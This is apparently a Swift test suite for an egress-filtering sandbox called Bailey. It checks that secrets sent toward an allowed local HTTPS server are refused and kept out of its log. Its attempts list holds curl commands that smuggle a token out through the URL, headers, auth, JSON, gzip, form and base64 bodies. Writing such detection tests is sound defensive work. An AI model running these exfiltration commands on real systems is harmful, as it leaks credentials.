import BaileyLinux
import BaileyTestSupport
import Testing

/// Secrets on their way to an HTTPS server that is allowed.
@Suite("No secret leaves a session in a request", .serialized)
struct RequestInspection {
  private static let token = "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"
  private static let known = "q7Zr-kfw02-Lx9"

  /// Each sends a secret to `$U`, and prints the answer.
  private static let attempts = [
    "curl -sS -m 20 \"$U/a?key=$T\"", "curl -sS -m 20 -H \"X-Key: $T\" $U/b", "curl -sS -m 20 -u me:$T $U/c",
    "curl -sS -m 20 -d '{\"k\": \"'$T'\"}' $U/d",
    "printf 'the key %s' $T | gzip | curl -sS -m 20 -H 'Content-Encoding: gzip' --data-binary @- $U/e",
    "echo $T > f; curl -sS -m 20 -F f=@f $U/f", "(seq 1 30000; echo $T) | curl -sS -m 20 -T - $U/g",
    "curl -sS -m 20 -d \"v=$(printf $K | base64)\" $U/h",
  ]

  @Test("Every attempt is refused with words, on record without its value, and a clean upload arrives as it was")
  func attempts() throws {
    let (walls, origin) = (try Walls(), try SecureOrigin())
    for name in ["config/bailey", "files"] { try walls.scratch.directory(name) }
    let settings = "authorities: [\(origin.path("ca.pem"))]\nnames: [{name: good.example, address: 127.0.0.1}]\n"
    try walls.scratch.write(settings, to: "config/bailey/egress.yaml", mode: 0o600)
    try walls.scratch.write("DB_PASSWORD=\(Self.known)\n", to: "project/.env")
    // Not in the command, which is on record before the file of variables is read.
    try walls.scratch.write(Self.known, to: "project/learned")
    let script =
      Self.attempts.joined(separator: "\n") + "\nseq 1 60000 > n; sha256sum < n; curl -sS --data-binary @n $U/ok"
    let result = try walls.run(
      "U=https://good.example:\(origin.port) T=\(Self.token) K=$(cat learned)\n" + script,
      ["--allow-host", "good.example:\(origin.port)", "--allow-host", "127.0.0.1:\(origin.port)"])
    let refusals = result.output.split(separator: "\n").filter { $0.contains(#""code":"secret-in-request""#) }
    #expect(refusals.count == Self.attempts.count, "\(result)")
    for place in [#""url""#, #""header:x-key""#, #""header:authorization""#, #""body""#] {
      #expect(refusals.contains { $0.contains("\"where\":" + place) }, "\(refusals)")
    }
    #expect(refusals.last?.contains(#""rule":"known-value""#) == true)
    let sum = try #require(result.output.firstMatch(of: /[0-9a-f]{64}/)?.output)
    #expect(result.output.contains("\"sha256\": \"\(sum)\""), "\(result)")
    #expect(origin.requests.map { $0.split(separator: " ").prefix(2).joined(separator: " ") } == ["POST /ok"])
    let log = try walls.bailey(["log", "list", "--last", "0", "--json"]).output
    #expect(log.contains("secret-in-request") && log.contains(#""places":["body"]"#))
    #expect(!log.contains(Self.token) && !log.contains(Self.known))
  }
}
